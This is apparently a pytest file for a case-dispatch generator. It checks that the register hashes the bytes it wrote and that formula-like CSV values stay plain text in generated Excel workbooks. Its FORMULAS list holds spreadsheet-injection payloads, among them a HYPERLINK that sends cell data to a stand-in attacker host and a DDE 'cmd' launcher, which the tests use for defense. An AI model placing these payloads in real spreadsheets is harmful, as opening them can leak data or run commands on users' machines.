"""Issue 16, points 4 and 5: the register records the bytes it wrote; data never becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib

import openpyxl
from attacks import new_case

from dispatch_gen.case.records import load_case
from dispatch_gen.init import init_case
from dispatch_gen.output import write_atomic
from dispatch_gen.register import issue_dispatch, register_entries
from dispatch_gen.render import render_dispatch


def test_the_register_hashes_the_bytes_it_wrote_not_what_replaced_them(tmp_path):
    case_dir = new_case(tmp_path)
    case = load_case(case_dir)
    out = tmp_path / "cv.docx"
    written: list[str] = []

    def render_then_replaced(number: int, day: dt.date):
        path = render_dispatch(case, out, number=number, issued_on=day)
        written.append(hashlib.sha256(path.read_bytes()).hexdigest())
        write_atomic(tmp_path / "other.docx", b"another issue's bytes")
        (tmp_path / "other.docx").replace(out)  # another program (or issue) replaces the file
        return path

    _, entry = issue_dispatch(case, case_dir, render_then_replaced, today=dt.date(2025, 1, 15))
    assert entry.sha256 == written[0]
    assert entry.sha256 != hashlib.sha256(out.read_bytes()).hexdigest()
    assert register_entries(case_dir)[0].sha256 == written[0]


FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "@SUM(1)", "-2+3"]


def test_csv_values_that_look_like_formulas_stay_text_in_records_xlsx(tmp_path):
    src = new_case(tmp_path, "src")
    path = src / "villages.csv"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    text_column = next(c for c in ("head", "note", "notes", "address") if c in rows[0])
    for row, value in zip(rows, FORMULAS, strict=False):
        row[text_column] = value
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    dest = tmp_path / "xlsx-case"
    init_case(dest, source=src, xlsx=True)
    book = openpyxl.load_workbook(dest / "records.xlsx")
    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    read_back = [getattr(v, text_column) for v in load_case(dest).villages][:len(FORMULAS)]
    assert read_back == FORMULAS[:len(read_back)]


def test_sheet_headings_headers_and_cells_from_data_are_text(tmp_path):
    """Headings and headers carry case data too (a case title, a criterion's label)."""
    from dispatch_gen.workbook import write_tables

    out = write_tables(tmp_path / "t.xlsx", [("Kết quả", ("=A1", "Cột"), (10, 10), [[FORMULAS[0], 1], [FORMULAS[1], None]],
                                              "=HYPERLINK(\"x\")")])
    ws = openpyxl.load_workbook(out).active
    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert [c.value for c in cells if isinstance(c.value, str)] == ['=HYPERLINK("x")', "=A1", "Cột", FORMULAS[0],
                                                                    FORMULAS[1]]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
